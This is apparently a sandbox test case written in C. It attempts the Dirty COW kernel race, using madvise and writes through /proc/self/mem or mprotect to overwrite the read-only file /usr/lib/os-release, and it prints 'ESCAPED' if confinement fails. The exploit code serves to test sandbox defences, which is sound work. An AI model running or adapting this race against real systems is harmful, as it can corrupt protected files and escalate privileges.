// @hostile dirty_cow.c
// @group fs
// @tries the race of Dirty COW: a private mapping of a read-only file, thrown away by madvise while it is written by memory file and by copy
// @limits cpu=4 wall=6 mem=256 procs=64 out=1 disk=64 ccwall=10
// @expect OK,RTE   (never an internal error)
// @check stdout!~ESCAPED
// @severity hard
// @layer landlock, mount_ns
// @invariants up noproc nowrite noleft return<=9s
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#include <pthread.h>
#include <sys/mman.h>
#include <time.h>

static volatile char *map;
static volatile int over;

static void *drop(void *x) {
    while (!over) madvise((void *)map, 4096, MADV_DONTNEED);
    return x;
}
static void *overwrite(void *x) {
    int mem = open("/proc/self/mem", O_RDWR); /* landlock says no; then by an ordinary write to the private copy */
    if (mem >= 0) puts("ESCAPED: /proc/self/mem is open for writing");
    while (!over) {
        if (mem >= 0) (void)!pwrite(mem, "PWNED", 5, (off_t)(unsigned long)map);
        else if (mprotect((void *)map, 4096, PROT_READ | PROT_WRITE) == 0) map[0] = 'P';
    }
    return x;
}
/* Success looks like a file of /usr that has changed. One second is enough for a kernel with the bug. */
int main(void) {
    const char *path = "/usr/lib/os-release";
    char before[64], after[64];
    int f = open(path, O_RDONLY);
    if (f < 0 || read(f, before, sizeof before) != sizeof before) return 0;
    map = mmap(0, 4096, PROT_READ, MAP_PRIVATE, f, 0);
    if (mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, f, 0) != MAP_FAILED) puts("ESCAPED: shared and writable");
    pthread_t a, b;
    pthread_create(&a, 0, drop, 0), pthread_create(&b, 0, overwrite, 0);
    struct timespec second = {1, 0};
    nanosleep(&second, 0);
    over = 1;
    pthread_join(a, 0), pthread_join(b, 0);
    int again = open(path, O_RDONLY);
    if (read(again, after, sizeof after) != sizeof after || memcmp(before, after, sizeof before))
        puts("ESCAPED: changed");
    puts("end");
    return 0;
}
